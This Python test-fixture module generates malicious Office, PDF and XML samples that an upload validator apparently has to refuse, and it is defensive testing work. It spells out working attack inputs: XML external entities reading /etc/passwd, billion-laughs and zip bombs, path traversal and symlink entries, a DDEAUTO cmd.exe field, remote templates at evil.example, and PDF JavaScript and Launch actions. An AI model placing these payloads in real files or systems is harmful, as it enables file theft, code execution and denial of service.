"""Files built to do harm, made here so that none has to be kept."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

CONTENT_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
    'package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/{part}" ContentType="{kind}"/>{more}</Types>'
)
RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/'
    '2006/relationships/officeDocument" Target="{part}"/></Relationships>'
)
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
WORD_MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
SHEETS = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def archive(parts: Mapping[str, str | bytes]) -> bytes:
    """Return a zip container."""
    place = io.BytesIO()
    with zipfile.ZipFile(place, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return place.getvalue()


def docx(
    body: str = "<w:p><w:r><w:t>Budget: 100</w:t></w:r></w:p>",
    *,
    before: str = "",
    kind: str = WORD,
    more: Mapping[str, str | bytes] | None = None,
) -> bytes:
    """Return a Word document with a body."""
    document = f'{before}<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'
    return archive(
        {
            "[Content_Types].xml": CONTENT_TYPES.format(
                part="word/document.xml", kind=kind, more=""
            ),
            "_rels/.rels": RELS.format(part="word/document.xml"),
            "word/document.xml": document,
            **(more or {}),
        }
    )


def xlsx(rows: str, *, before: str = "") -> bytes:
    """Return a workbook of one sheet."""
    return archive(
        {
            "[Content_Types].xml": CONTENT_TYPES.format(
                part="xl/workbook.xml",
                kind=SHEETS,
                more='<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
                'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>',
            ),
            "_rels/.rels": RELS.format(part="xl/workbook.xml"),
            "xl/workbook.xml": f'<workbook xmlns="{S}" xmlns:r="{R}"><sheets>'
            '<sheet name="Budget" sheetId="1" r:id="rId1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/'
            'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
            'openxmlformats.org/officeDocument/2006/relationships/worksheet" '
            'Target="worksheets/sheet1.xml"/></Relationships>',
            "xl/worksheets/sheet1.xml": f'{before}<worksheet xmlns="{S}"><sheetData>{rows}'
            "</sheetData></worksheet>",
        }
    )


def cell(place: str, value: object) -> str:
    """Return a cell with a number."""
    return f'<c r="{place}"><v>{value}</v></c>'


def relations(target: str, kind: str) -> str:
    """Return relations of the main part that lead outside."""
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r9" Type="{R}/{kind}" Target="{target}" TargetMode="External"/>'
        "</Relationships>"
    )


def pdf(catalogue: str, more: str = "") -> bytes:
    """Return a PDF document of one empty page, with entries of our own in its catalogue."""
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalogue} >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>",
        *([more] if more else []),
    ]
    out, offsets = b"%PDF-1.7\n", []
    for number, text in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n{text}\nendobj\n".encode()
    start = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010} 00000 n \n".encode() for offset in offsets)
    out += f"trailer << /Size {len(objects) + 1} /Root 1 0 R >>\n".encode()
    return out + f"startxref\n{start}\n%%EOF\n".encode()


def overlapping() -> bytes:
    """Return a container of two names for the same bytes."""
    data = bytearray(docx(more={"word/a.xml": "<a/>", "word/b.xml": "<a/>"}))
    first = data.index(b"PK\x03\x04")
    places = [i for i in range(len(data)) if data[i : i + 4] == b"PK\x01\x02"]
    struct.pack_into("<I", data, places[-1] + 42, first)
    return bytes(data)


def lying_about_size() -> bytes:
    """Return a container whose directory says that a large part is small."""
    data = bytearray(docx("<w:p/>" * 400_000))
    place = [i for i in range(len(data)) if data[i : i + 4] == b"PK\x01\x02"][2]
    struct.pack_into("<I", data, place + 24, 100)
    return bytes(data)


def twice() -> bytes:
    """Return a container with two parts of the same name."""
    return docx(more={"word/Document.xml": "<a/>"})


def linking() -> bytes:
    """Return a container with a symbolic link."""
    place = io.BytesIO(docx())
    with zipfile.ZipFile(place, "a") as made:
        entry = zipfile.ZipInfo("word/link")
        entry.external_attr = 0o120777 << 16
        made.writestr(entry, "/etc/passwd")
    return place.getvalue()


def nested_forms(count: int) -> bytes:
    """Return a PDF document whose one page draws forms that each draw the next ten times."""
    draws = b"/F Do " * 10
    form = (
        b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Length %d"
        b" /Resources << /XObject << /F %d 0 R >> >> >>\nstream\n%s\nendstream"
    )
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /Contents 4 0 R"
        b" /Resources << /XObject << /F 5 0 R >> >> >>"
    )
    last = b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Length 4 >>\nstream\nq Q \nendstream"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        page,
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(draws), draws),
        *(form % (len(draws), number + 1, draws) for number in range(5, 5 + count)),
        last,
    ]
    return numbered(objects)


def busy_pages(count: int) -> bytes:
    """Return a small PDF document of pages that all do the same long nothing."""
    packed = zlib.compress(b"q Q " * 2_000_000)
    kids = b" ".join(b"%d 0 R" % (number + 4) for number in range(count))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 3 0 R >>"
    return numbered(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
            b"<< /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(packed), packed),
            *[page] * count,
        ]
    )


def in_object_stream(action: bytes) -> bytes:
    """Return a PDF document whose catalogue stands in a packed object stream."""
    catalogue = b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + action + b" >>"
    packed = zlib.compress(b"1 0 " + catalogue)
    out = b"%PDF-1.7\n"
    offsets = {}
    head = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n"
    bodies = {
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>",
        4: head % len(packed) + packed + b"\nendstream",
    }
    for number, body in bodies.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535), struct.pack(">BIH", 2, 4, 0)]
    rows += [struct.pack(">BIH", 1, offsets[number], 0) for number in (2, 3, 4)]
    rows.append(struct.pack(">BIH", 1, start, 0))
    table = b"".join(rows)
    return out + (
        b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start
    )


def numbered(objects: list[bytes]) -> bytes:
    """Return a PDF document of these objects, the first of them its catalogue."""
    out, offsets = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    trailer = b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
    return out + trailer % (len(objects) + 1, start)


def container(*names: str) -> bytes:
    """Return a file in the old container of office programs, with entries of these names."""
    entries = b"".join((name + "\0").encode("utf-16-le").ljust(128, b"\0") for name in names)
    return OLE.ljust(512, b"\0") + entries.ljust(4096, b"\0")


def two_main_parts() -> bytes:
    """Return a container that is a document and a workbook at once."""
    return archive(
        {
            "[Content_Types].xml": CONTENT_TYPES.format(
                part="word/document.xml",
                kind=WORD,
                more=f'<Override PartName="/xl/workbook.xml" ContentType="{SHEETS}"/>',
            ),
            "_rels/.rels": RELS.format(part="word/document.xml"),
            "word/document.xml": f'<w:document xmlns:w="{W}"/>',
            "xl/workbook.xml": f'<workbook xmlns="{S}"/>',
        }
    )


def encrypted_entries() -> bytes:
    """Return a container whose entries say that they need a password."""
    data = bytearray(docx())
    for sign, offset in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        for place in (i for i in range(len(data)) if data[i : i + 4] == sign):
            data[place + offset] |= 1
    return bytes(data)


DOCTYPE = '<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
LAUGHS = '<!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"

REFUSED: Mapping[str, Callable[[], bytes]] = {
    "empty.docx": lambda: b"",
    "external-entity.docx": lambda: docx(before=DOCTYPE),
    "billion-laughs.xlsx": lambda: xlsx("", before=LAUGHS),
    "billion-laughs.xml": (LAUGHS + "<Project>&b;</Project>").encode,
    "deep.docx": lambda: docx("<w:p>" * 5000 + "</w:p>" * 5000),
    "deep.xml": lambda: b"<Project>" + b"<Task>" * 200_000,
    "zip-bomb.docx": lambda: docx(more={"word/media/a.xml": b"0" * (80 << 20)}),
    "ratio.docx": lambda: docx(more={"word/media/a.xml": b"0" * (20 << 20)}),
    "sparse.xlsx": lambda: xlsx(
        f'<row r="1">{cell("A1", 1)}</row><row r="1048576">{cell("XFD1048576", 1)}</row>'
    ),
    "many-parts.docx": lambda: docx(more={f"word/{n}.xml": "<a/>" for n in range(2500)}),
    "overlap.docx": overlapping,
    "size-lie.docx": lying_about_size,
    "twice.docx": twice,
    "symbolic-link.docx": linking,
    "traversal.docx": lambda: docx(more={"../../evil.xml": "<a/>"}),
    "absolute.docx": lambda: docx(more={"/evil.xml": "<a/>"}),
    "backslash.docx": lambda: docx(more={"word\\..\\evil.xml": "<a/>"}),
    "macros.docx": lambda: docx(more={"word/vbaProject.bin": OLE}),
    "docm-renamed.docx": lambda: docx(kind=WORD_MACROS),
    "active-x.docx": lambda: docx(more={"word/activeX/activeX1.bin": b"x"}),
    "object.docx": lambda: docx(more={"word/embeddings/oleObject1.bin": OLE}),
    "template.docx": lambda: docx(
        more={
            "word/_rels/document.xml.rels": relations("https://evil.example/t", "attachedTemplate")
        }
    ),
    "picture-from-outside.docx": lambda: docx(
        more={"word/_rels/document.xml.rels": relations("https://evil.example/p", "oleObject")}
    ),
    "dde.docx": lambda: docx(
        "<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>"
    ),
    "old-word.doc": lambda: container("WordDocument"),
    "old-word-renamed.docx": lambda: container("WordDocument"),
    "old-container.dat": lambda: OLE + bytes(4096),
    "password.xlsx": lambda: container("EncryptionInfo", "EncryptedPackage"),
    "password-entries.docx": encrypted_entries,
    "two-main-parts.docx": two_main_parts,
    "only-a-far-cell.xlsx": lambda: xlsx(f'<row r="9999999">{cell("A9999999", 1)}</row>'),
    "impossible-cell.xlsx": lambda: xlsx(f'<row r="1">{cell("A0", 1)}</row>'),
    "many-columns.csv": lambda: (b"a;" * 600 + b"\n") * 3,
    "utf16-entity.docx": lambda: docx(more={"word/a.xml": f"{DOCTYPE}<a/>".encode("utf-16")}),
    "workbook-inside.docx": lambda: docx(more={"word/embeddings/a.xlsx": b"PK"}),
    "another-workbook.xlsx": lambda: docx(more={"xl/externalLinks/externalLink1.xml": "<a/>"}),
    "other-document.docx": lambda: docx(
        more={"word/_rels/document.xml.rels": relations("https://evil.example/a", "aFChunk")}
    ),
    "network-template.docx": lambda: docx(
        more={
            "word/_rels/document.xml.rels": relations(
                "file:///\\\\evil.example\\t.dotm", "attachedTemplate"
            )
        }
    ),
    "script-in-object-stream.pdf": lambda: in_object_stream(b"<< /S /JavaScript /JS (a) >>"),
    "launch-on-page.pdf": lambda: pdf("/AA << /WC << /S /#4caunch /F (cmd.exe) >> >>"),
    "forms-of-forms.pdf": lambda: nested_forms(12),
    "junk-before.pdf": lambda: b"\x00\x01junk" + pdf(""),
    "page.html": lambda: b"<!DOCTYPE html><html><body>hello</body></html>",
    "plan.pod": lambda: b"\xac\xed\x00\x05t\x00\x051.0.0sr\x00)com.projectlibre1.Project",
    "entities.gan": f'{DOCTYPE}<project view-date=""><tasks/></project>'.encode,
    "entities.planner": f'{DOCTYPE}<project mrproject-version="2"/>'.encode,
    "entities-pmxml.xml": f"{DOCTYPE}<APIBusinessObjects/>".encode,
    "build.xml": lambda: b'<project name="a" default="all"><target name="all"/></project>',
    "polyglot.pdf": lambda: b"%PDF-1.4\n%%EOF\n" + docx(),
    "plain-archive.docx": lambda: archive({"notes.txt": "hello"}),
    "truncated.docx": lambda: docx()[:-30],
    "script.pdf": lambda: pdf("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
    "script-in-hex.pdf": lambda: pdf("/OpenAction << /S /J#61vaScript /JS (app.alert\\(1\\)) >>"),
    "launch.pdf": lambda: pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "embedded.pdf": lambda: pdf(
        "/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
        "<< /Type /Filespec /F (a.exe) /EF << /F 3 0 R >> >>",
    ),
    "picture.docx": lambda: b"\x89PNG\r\n\x1a\n" + bytes(64),
    "rich-text.rtf": lambda: b"{\\rtf1 hello}",
    "program.exe": lambda: b"MZ" + bytes(range(256)) * 8,
    "page.svg": lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>',
}
"""What must come back refused, by the name under which it is handed in."""
